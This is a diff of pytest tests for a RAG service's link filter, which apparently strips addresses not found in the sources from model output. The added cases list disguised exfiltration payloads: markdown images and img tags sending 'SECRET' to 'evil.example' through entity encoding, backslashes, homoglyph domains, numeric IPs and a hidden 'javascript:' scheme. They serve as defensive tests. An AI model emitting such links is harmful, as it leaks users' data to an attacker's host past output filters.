@@ -1,8 +1,16 @@
+import re
+
 import pytest
 
 from serve_apps.rag.links import REMOVED, LinkFilter, addresses
 
-ALLOWED = addresses(["See https://docs.example/guide?a=1 and <img src='/local.png'>, www.example.org."])
+ALLOWED = addresses(
+    [
+        "See https://docs.example/guide?a=1 and <img src='/local.png'>, www.example.org.",
+        "(https://wiki.example/Tea_(drink)), https://wiki.example/Käse; https://docs.example/?a=1&amp;b=2",
+        "An open https://docs.example/a(b",
+    ]
+)
 
 
 def whole(text: str) -> str:
@@ -20,6 +28,12 @@ def whole(text: str) -> str:
         "A ratio of 3:1, at 12:30; a//b is a floor division, // a comment, C:\\x and std::vector<int>.",
         "[a](/local) and ![b](local.png) stay on this site; e.g. and/or [1][2] are no links.",
         "metadata: none; telephone: none; a = {b: c}",
+        "Read [tea](https://wiki.example/Tea_(drink)), https://wiki.example/Tea_(drink) and <https://wiki.example/Käse>.",
+        "**https://docs.example/guide?a=1**, `https://docs.example/guide?a=1`: both; (www.example.org).",
+        '{"url": "https://docs.example/guide?a=1", "more": ["www.example.org"]}',
+        "[a](https://docs.example/?a=1&b=2), [b](https://docs.example/?a=1&amp;b=2) and R&amp;D, AT&T, a && b",
+        r"\(x \over y\), \\server, https: and **http:**, ports http:80, https:443, regex https?:\/\/[^/]+",
+        "見よ[茶](https://wiki.example/Tea_(drink))。次に進む",
     ],
 )
 def test_what_the_sources_have_and_what_is_no_address_stays(text: str) -> None:
@@ -49,8 +63,60 @@ def test_other_addresses_are_removed(text: str, filtered: str) -> None:
     assert whole(text) == filtered
 
 
+@pytest.mark.parametrize(
+    ("text", "filtered"),
+    [
+        ("![](https://docs.example/guide?a=1é/SECRET)", "![](https://docs.example/guide?a=1 é/SECRET)"),
+        ("![](https://docs.example/guide?a=1'SECRET)", "![](https://docs.example/guide?a=1 'SECRET)"),
+        ("![](https://docs.example/guide?a=1(SECRET))", "![](https://docs.example/guide?a=1 (SECRET))"),
+        ("![](https://docs.example/guide?a=1{SECRET})", "![](https://docs.example/guide?a=1 {SECRET})"),
+        ("![](https://docs.example/guide?a=1\u00a0SECRET)", "![](https://docs.example/guide?a=1 \u00a0SECRET)"),
+        ("![](https://docs.example/guide?a=1&nbsp;SECRET)", f"![]({REMOVED})"),
+        ('![]( https://docs.example/guide?a=1"SECRET )', '![]( https://docs.example/guide?a=1 "SECRET )'),
+        ("<img src=https://docs.example/guide?a=1`SECRET`>", "<img src=https://docs.example/guide?a=1 `SECRET`>"),
+        ("https://docs.example/guide?a=1!?!?!?!?", "https://docs.example/guide?a=1 !?!?!?!?"),
+        ("![](https://docs.example/a(b)SECRET)", "![](https://docs.example/a(b )SECRET)"),
+        ("https://docs.example/guide?a=1[1]", "https://docs.example/guide?a=1 [1]"),
+    ],
+)
+def test_a_known_address_does_not_go_on(text: str, filtered: str) -> None:
+    assert whole(text) == filtered
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r"![](https\://evil.example/SECRET)",
+        r"![](\/\/evil.example/SECRET)",
+        "![](https&#58;//evil.example/SECRET)",
+        "![](https&#x3A//evil.example/SECRET)",
+        "![](https&colon;&sol;&sol;evil.example/SECRET)",
+        "![](https:&#92;&#92;evil.example/SECRET)",
+        "[a](java&Tab;script:SECRET)",
+        r"<img src=https:\\evil.example\SECRET>",
+        r"<img src='\\evil.example\SECRET'>",
+        r"<img src='/\evil.example/SECRET'>",
+        "<img src='https:evil.example/SECRET'>",
+        "![](<//évil.example/SECRET>)",
+        "![](//evil。example/SECRET)",
+        "![](//134744072/SECRET)",
+        "![](https://[2001:db8::1]/SECRET)",
+        "![](http:é.example/SECRET)",
+        "www.évil.example/SECRET",
+        r'{"image": "https\u003a\u002f\u002fevil.example/SECRET"}',
+    ],
+)
+def test_an_address_in_disguise_is_removed(text: str) -> None:
+    filtered = whole(text)
+    assert REMOVED in filtered
+    assert not re.search(r"evil\S*SECRET|script:|//\d|http:", filtered.replace(REMOVED, " ")), filtered
+
+
 def test_pieces_give_what_the_whole_gives() -> None:
-    text = "Say [hi](https://evil.example/?q=1) or https://docs.example/guide?a=1, www.evil.example and 3:1 //x done"
+    text = (
+        "Say [hi](https://evil.example/?q=1) or https://docs.example/guide?a=1, www.evil.example and 3:1 //x done; "
+        "見よ(https://docs.example/guide?a=1)。次![](https&#58;//evil.example/é) ![](//évil.example/a)と[b](https://ä.b)"
+    )
     for size in range(1, 12):
         links = LinkFilter(ALLOWED)
         pieces = [text[begin : begin + size] for begin in range(0, len(text), size)]
